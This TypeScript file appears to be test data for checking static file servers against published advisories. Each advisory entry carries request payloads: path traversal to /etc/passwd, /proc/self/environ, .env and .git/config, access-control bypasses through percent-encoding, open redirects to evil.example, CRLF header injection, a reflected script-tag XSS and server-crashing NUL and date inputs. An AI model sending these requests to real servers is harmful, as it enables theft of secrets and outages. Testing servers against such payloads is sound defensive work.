/** A published vulnerability of a static file server, with requests that exploit it. */
export interface Advisory {
  /** CVE, GHSA, or the repository that describes it. */
  readonly ids: readonly string[];
  /** npm packages; `python` is `http.server`. */
  readonly packages: readonly string[];
  /** What the attacker achieved. */
  readonly fault: string;
  /** Request targets, one byte per character, for the tree of `attacked.ts`. */
  readonly targets: readonly string[];
  /** Header fields of the request. */
  readonly fields?: readonly string[];
}

const MANY_UP = '/..'.repeat(12);

const TRAVERSALS: readonly Advisory[] = [
  {
    ids: ['CVE-2014-6394', 'GHSA-xwg4-93c6-3h42'],
    packages: ['send', 'serve-static'],
    fault: 'a folder whose name begins with that of the served one is taken for a part of it',
    targets: ['/../root-secret/secret.txt', '/%2e%2e/root-secret/secret.txt', '/sub/../../root-secret/'],
  },
  {
    ids: ['CVE-2023-26111', 'GHSA-5g97-whc9-8g7j'],
    packages: ['node-static', '@nubosoftware/node-static'],
    fault: 'the same, by startsWith()',
    targets: ['/..%2froot-secret/secret.txt', '/..%2froot-secret%2fsecret.txt', '-secret/secret.txt'],
  },
  {
    ids: ['CVE-2026-48049', 'GHSA-rcvq-m9j9-6f4g'],
    packages: ['@hapi/inert'],
    fault: 'the same, by a comparison of text',
    targets: ['/..%2Froot-secret/secret.txt', '/%2e%2e%2froot-secret/secret.txt', '/-secret/secret.txt'],
  },
  {
    ids: ['CVE-2017-14849'],
    packages: ['send', 'serve-static'],
    fault: '`..` after nested names is normalized incorrectly',
    targets: [`/static/../../../a${MANY_UP}/etc/passwd`, '/../../a/../../secret.txt', '/a/../../secret.txt'],
  },
  {
    ids: ['CVE-2018-3712'],
    packages: ['serve'],
    fault: '%2e and %2f are decoded after the check',
    targets: ['/%2e%2e%2fsecret.txt', '/..%2fsecret.txt', '/%2e%2e/secret.txt', '/sub/%2e%2e%2f%2e%2e/'],
  },
  {
    ids: ['CVE-2014-3744', 'GHSA-69rr-wvh9-6c4q'],
    packages: ['st'],
    fault: '%2e%2e leads upwards',
    targets: [`${MANY_UP.replaceAll('.', '%2e')}/etc/passwd`, '/%2E%2E/secret.txt', '/.%2e/secret.txt'],
  },
  {
    ids: ['lukeed/sirv#63'],
    packages: ['sirv'],
    fault: 'files are looked up outside the folder (in its development mode)',
    targets: ['/../secret.txt', `${MANY_UP}/etc/passwd`, '/sub/../../secret.txt', '../secret.txt'],
  },
  {
    ids: ['GHSA-pr96-94w5-mx2h'],
    packages: ['@fastify/static'],
    fault: 'folders outside are listed',
    targets: ['/../', '/..', '/%2e%2e/', '/..%2f', '/sub/..%2f..%2f', '/../root-secret/', '/../root-secret'],
  },
  {
    ids: ['cloudhead/node-static#213'],
    packages: ['node-static'],
    fault: 'NUL in a path crashes the server',
    targets: ['/%00', '/hello.txt%00', '/..%00/secret.txt', '/%00/../../secret.txt', '/sub%00'],
  },
  {
    ids: ['CVE-2016-10703', 'GHSA-pm9p-9926-w68m'],
    packages: ['ecstatic'],
    fault: 'many NULs stop the server',
    targets: [`/${'%00'.repeat(5000)}`],
  },
  {
    ids: ['CVE-2015-8859', 'GHSA-jgqf-hwc5-hh37'],
    packages: ['send'],
    fault: 'an answer reveals the path of the folder on disk',
    targets: ['/missing', '/hello.txt/', '/sub/a.txt/x', '/sub', '/%ff', `/${'n'.repeat(300)}`],
  },
  {
    ids: ['CVE-2026-54286', 'GHSA-frvp-7c67-39w9'],
    packages: ['hono', '@hono/node-server'],
    fault: '%5C leads into folders (on Windows)',
    targets: [
      '/..%5csecret.txt',
      '/%5c..%5csecret.txt',
      '/..%5croot-secret%5csecret.txt',
      '/sub\\..\\..\\secret.txt',
    ],
  },
  {
    ids: ['GHSA-wr4h-v87w-p3r7'],
    packages: ['h3'],
    fault: '%2e%2e is decoded after normalization',
    targets: ['/%2e%2e/%2e%2e/secret.txt', '/%252e%252e/secret.txt', '/%252e%252e%252fsecret.txt'],
  },
];

const HIDDEN: readonly Advisory[] = [
  {
    ids: ['GHSA-v588-qcp3-jv46'],
    packages: ['serve'],
    fault: '`/./` exposes restricted files',
    targets: ['/./.env', '/.//.env', '/./.git/', '/sub/./../.env', '/%2e/.env'],
  },
  {
    ids: ['GMS-2020-775'],
    packages: ['serve'],
    fault: 'a percent-encoded letter exposes restricted files',
    targets: ['/.%65nv', '/%2eenv', '/%2Eenv', '/%2egit/config', '/.git%2fconfig', '/.g%69t/'],
  },
  {
    ids: ['CVE-2026-6414', 'GHSA-x428-ghpx-8j92'],
    packages: ['@fastify/static'],
    fault: '%2F bypasses access control',
    targets: ['/.git%2Fconfig', '/sub%2F..%2F.env', '%2F.env', '/%2F.env'],
  },
  {
    ids: ['CVE-2026-15074', 'GHSA-83w8-p2f5-377r'],
    packages: ['@fastify/static'],
    fault: '`..` in the path bypasses access control',
    targets: ['/sub/../.env', '/sub/%2E%2E/.env', '/missing/../.git/config', '/.git/../.env'],
  },
  {
    ids: ['CVE-2026-7120', 'GHSA-8pvw-jcv7-9cmj'],
    packages: ['@fastify/static'],
    fault: 'a path that is not normalized bypasses access control',
    targets: ['//.env', '/./.env', '/sub/../.git/config', '//.git//config', '///.env'],
  },
  {
    ids: ['GHSA-423g-23ch-w7c6'],
    packages: ['@fastify/static'],
    fault: '`.` and `//` bypass access control',
    targets: ['/.git/./config', '/./.git/config', '/.git//config', '/sub//..//.env'],
  },
  {
    ids: ['GHSA-5r4p-p66f-jhc7', 'GHSA-rmxm-3fg6-px4f'],
    packages: ['hono', '@hono/node-server'],
    fault: 'double decoding bypasses access control',
    targets: ['/%252eenv', '/.git%252fconfig', '/sub/%252e%252e/.env'],
  },
  {
    ids: ['CVE-2026-90982', 'GHSA-r799-r9gc-m956'],
    packages: ['@fastify/static'],
    fault: 'a name in another case bypasses access control',
    targets: ['/.GIT/config', '/.Env', '/.%45nv'],
  },
  {
    ids: ['CVE-2026-130811', 'GHSA-7533-p376-8gg5'],
    packages: ['@fastify/static'],
    fault: 'a restricted folder is listed',
    targets: ['/.git/', '/.git', '/%2egit/', '/sub/../.git/', '/.git/?sort=name'],
  },
];

const REDIRECTS: readonly Advisory[] = [
  {
    ids: ['GHSA-c3x7-gjmx-r2ff'],
    packages: ['serve-static'],
    fault: 'a redirect leads to another host',
    targets: ['//evil.example/%2e%2e', '//evil.example/..', '//evil.example%2f..', '//evil.example/%2f..'],
  },
  {
    ids: ['CVE-2021-22963', 'GHSA-p6vg-p826-qp3v'],
    packages: ['@fastify/static'],
    fault: 'a redirect leads to another host',
    targets: ['//evil.example/%2E%2E', '//evil.example/sub/%2e%2e%2f%2e%2e', '///evil.example/%2e%2e'],
  },
  {
    ids: ['CVE-2021-22964', 'GHSA-pgh6-m65r-2rhq'],
    packages: ['@fastify/static'],
    fault: 'a redirect leads to another host, or crashes the server',
    targets: ['//a//evil.example/%2e%2e%2f%2e%2e', '//^/..', '//[/..', '//%/..'],
  },
  {
    ids: ['CVE-2021-28861'],
    packages: ['python'],
    fault: 'a redirect leads to another host',
    targets: ['//evil.example', '//evil.example/../sub', '////evil.example', '//evil.example?x', '//'],
  },
  {
    ids: ['GHSA-9q64-mpxx-87fg'],
    packages: ['ecstatic', 'http-server'],
    fault: 'a redirect leads to another host',
    targets: ['/%2fevil.example/..', '//user@evil.example/..', '//evil.example:80/..', '/;//evil.example/..'],
  },
  {
    ids: ['cloudhead/node-static#221'],
    packages: ['node-static'],
    fault: 'a redirect leads to the host whose name a folder has',
    targets: ['//evil.example', '//sub/../evil.example', '/\\evil.example', '/.//evil.example'],
  },
  {
    ids: ['CVE-2021-3189', 'GHSA-f4hq-453j-p95f'],
    packages: ['slashify'],
    fault: 'slashes and backslashes lead to another host',
    targets: ['/\\evil.example/..', '/%5cevil.example/..', '/\\\\evil.example/..', '\\\\evil.example/..'],
  },
  {
    ids: ['CVE-2017-16224'],
    packages: ['st'],
    fault: 'a redirect leads to another host',
    targets: ['//evil.example/%2e.', '//evil.example/.%2e', '/\t/evil.example/..', '/%09/evil.example/..'],
  },
  {
    ids: ['CVE-2019-10775'],
    packages: ['ecstatic', 'http-server'],
    fault: 'a form feed in a redirect crashes the server',
    targets: ['/sub?\f', '/sub?%0c', '/%0c/..', '/\f/..', '/sub?%0d%0aset-cookie:%20a=b', '/%0d%0aa:b/..'],
  },
  {
    ids: ['CVE-2024-43799', 'GHSA-m6fv-jmcg-4jfg', 'CVE-2024-43800', 'GHSA-cm22-4g7w-348p'],
    packages: ['send', 'serve-static'],
    fault: 'XSS: the redirect page contains the unescaped target',
    targets: ['/sub?"><script>alert(1)</script>', '/sub?%22%3E%3Cscript%3Ealert(1)', '/<script>/..'],
  },
  {
    ids: ['CVE-2015-9242', 'GHSA-vwjc-q9px-r9vq'],
    packages: ['ecstatic'],
    fault: 'an invalid date crashes the server',
    targets: ['/hello.txt', '/sub/', '/sub'],
    fields: [
      'If-Modified-Since: Thu, 99 Foo 275761 99:99:99',
      'If-Unmodified-Since: 1e999',
      'If-Range: \xff',
    ],
  },
];

export const ADVISORIES = [...TRAVERSALS, ...HIDDEN, ...REDIRECTS];

/** Targets without an advisory, which succeed if something is decoded twice or too late. */
export const OTHER_FORMS: readonly string[] = [
  '/%c0%ae%c0%ae/secret.txt',
  '/..%c0%afsecret.txt',
  '/%c1%9c..%c1%9csecret.txt',
  '/%e0%80%ae%e0%80%ae/secret.txt',
  '/%f0%80%80%ae%f0%80%80%ae/secret.txt',
  '/\xc0\xae\xc0\xae/secret.txt',
  '/%uff0e%uff0e/secret.txt',
  '/%ef%bc%8e%ef%bc%8e/secret.txt',
  '/%25%32%65%25%32%65/secret.txt',
  '/%%32%65%%32%65/secret.txt',
  '/..;/secret.txt',
  '/....//secret.txt',
  '/..././secret.txt',
  '/.../secret.txt',
  '/sub/..%01/secret.txt',
  '/..?/../secret.txt',
  '/..#/../secret.txt',
  '/?/../../secret.txt',
  '/proc/self/environ',
  '/../../../../proc/self/environ',
  '/file:///etc/passwd',
  '//etc/passwd',
  '/sub//..//..//secret.txt',
  '/hello.txt/../../secret.txt',
  '/%2f%2e%2e%2fsecret.txt',
  '/..%00/',
  `/${'../'.repeat(2000)}secret.txt`,
  `/${'%2e%2e%2f'.repeat(1000)}secret.txt`,
  '*',
  '/%',
  '/%zz',
  '/%80%ff',
];
